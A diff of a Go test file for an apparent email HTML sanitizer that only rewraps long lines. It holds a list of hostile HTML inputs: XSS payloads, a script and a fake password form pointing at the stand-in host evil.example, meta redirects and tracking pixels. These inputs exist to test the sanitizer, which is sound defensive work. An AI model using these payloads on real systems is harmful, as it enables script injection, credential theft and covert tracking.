@@ -11,23 +11,40 @@ import (
 // hostile is what mails have carried to run scripts, to load what tells the
 // sender that they were read, or to break out of where they are shown.
 var hostile = []string{
-	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`,
-	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`,
-	`<embed src="https://evil.example/x.swf">`, `<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
-	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
-	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
+	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`,
+	`<img src="javascript:alert(1)">`,
+	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
+	`<embed src="https://evil.example/x.swf">`, `<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
+	`<a href="&#106;avascript:alert(1)">x</a>`,
+	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
+	`<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
+	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
+	`<link rel=stylesheet href="https://evil.example/x.css">`,
 	`<style>@import "https://evil.example/x.css";</style>`, `<style>body{background:url(https://evil.example/p.png)}</style>`,
-	`<div style="background:url(https://evil.example/p.png)">x</div>`, `<div style="background-image:url('https://evil.example/p.png')">x</div>`,
-	`<p style="width:expression(alert(1))">x</p>`, `<p style="color:red;background:u\72l(https://evil.example/p.png)">x</p>`, `<p style="font-family:x;behavior:url(#x)">x</p>`,
-	`<table background="https://evil.example/p.png"><tr><td background="https://evil.example/q.png">x</td></tr></table>`, `<body background="https://evil.example/p.png" onload=alert(1)>x`,
-	`<img src="https://evil.example/pixel.gif" width=1 height=1>`, `<img srcset="https://evil.example/pixel.gif 1x">`, `<img src="//evil.example/p.png">`, `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
-	`<svg><filter id=f><feImage href="https://evil.example/p.png"/></filter></svg>`, `<svg><image xlink:href="https://evil.example/p.png"/></svg>`, `<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>`,
-	`<audio src="https://evil.example/a.mp3">`, `<input type=image src="https://evil.example/p.png">`, `<bgsound src="https://evil.example/a.mid">`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<template><img src=x onerror=alert(1)></template>`,
-	`<img alt="<script>alert(1)</script>" src="https://evil.example/p.png">`, `<a href="https://x.example" target="_self" onclick="alert(1)">x</a>`, `<div id="login" class="modal" name="x">x</div>`,
-	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<p><img src="cid:none@x"></p>`, "<img src=x\x00 onerror=alert(1)>", `<<script>alert(1);//<</script>`,
-	`<img """><script>alert(1)</script>">`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<title><img src=x onerror=alert(1)></title>`, `<select><style><img src=x onerror=alert(1)></style></select>`,
+	`<div style="background:url(https://evil.example/p.png)">x</div>`,
+	`<div style="background-image:url('https://evil.example/p.png')">x</div>`,
+	`<p style="width:expression(alert(1))">x</p>`, `<p style="color:red;background:u\72l(https://evil.example/p.png)">x</p>`,
+	`<p style="font-family:x;behavior:url(#x)">x</p>`,
+	`<table background="https://evil.example/p.png"><tr><td background="https://evil.example/q.png">x</td></tr></table>`,
+	`<body background="https://evil.example/p.png" onload=alert(1)>x`,
+	`<img src="https://evil.example/pixel.gif" width=1 height=1>`, `<img srcset="https://evil.example/pixel.gif 1x">`,
+	`<img src="//evil.example/p.png">`, `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
+	`<svg><filter id=f><feImage href="https://evil.example/p.png"/></filter></svg>`,
+	`<svg><image xlink:href="https://evil.example/p.png"/></svg>`,
+	`<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>`,
+	`<audio src="https://evil.example/a.mp3">`, `<input type=image src="https://evil.example/p.png">`,
+	`<bgsound src="https://evil.example/a.mid">`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<template><img src=x onerror=alert(1)></template>`,
+	`<img alt="<script>alert(1)</script>" src="https://evil.example/p.png">`,
+	`<a href="https://x.example" target="_self" onclick="alert(1)">x</a>`, `<div id="login" class="modal" name="x">x</div>`,
+	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
+	`<p><img src="cid:none@x"></p>`, "<img src=x\x00 onerror=alert(1)>", `<<script>alert(1);//<</script>`,
+	`<img """><script>alert(1)</script>">`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<title><img src=x onerror=alert(1)></title>`,
+	`<select><style><img src=x onerror=alert(1)></style></select>`,
 }
 
 // harmless fails on anything in cleaned HTML that acts or loads.
@@ -39,13 +56,15 @@ func harmless(t *testing.T, source, safe string) {
 		if tok.Type != html.StartTagToken && tok.Type != html.SelfClosingTagToken {
 			continue
 		}
-		require.NotContains(t, []string{"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "video", "audio", "source",
+		require.NotContains(t, []string{"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta",
+			"base", "link", "video", "audio", "source",
 			"picture", "noscript", "template", "textarea", "select", "title", "xmp"}, tok.Data, source)
 		for _, a := range tok.Attr {
 			require.False(t, strings.HasPrefix(a.Key, "on"), source)
 			require.NotContains(t, []string{"id", "class", "name", "srcset", "background", "srcdoc", "action", "poster"}, a.Key, source)
 			v := strings.ToLower(a.Val)
-			require.False(t, strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") || strings.Contains(v, "url(") || strings.Contains(v, "expression"), source)
+			require.False(t, strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") || strings.Contains(v,
+				"url(") || strings.Contains(v, "expression"), source)
 			if a.Key == "src" {
 				require.NotContains(t, v, "evil.example", source)
 				require.NotContains(t, v, "svg", source)
@@ -97,7 +116,8 @@ func TestRemoteImagesAreOff(t *testing.T) {
 // What people write stays as it looks.
 func TestCleaningKeepsWhatPeopleWrite(t *testing.T) {
 	safe, _ := Clean(`<div style="color:#ff0000;font-family:'Malgun Gothic',sans-serif">안녕 <b>하세요</b> <a href="https://x.example/a?b=1&c=2">link</a></div><table border="1"><tr><td colspan="2">1</td></tr></table>`, NoRemote, nil)
-	for _, want := range []string{"color: #ff0000", "<b>하세요</b>", `href="https://x.example/a?b=1&amp;c=2"`, `colspan="2"`, "noreferrer", `target="_blank"`} {
+	for _, want := range []string{"color: #ff0000", "<b>하세요</b>", `href="https://x.example/a?b=1&amp;c=2"`, `colspan="2"`,
+		"noreferrer", `target="_blank"`} {
 		require.Contains(t, safe, want)
 	}
 }
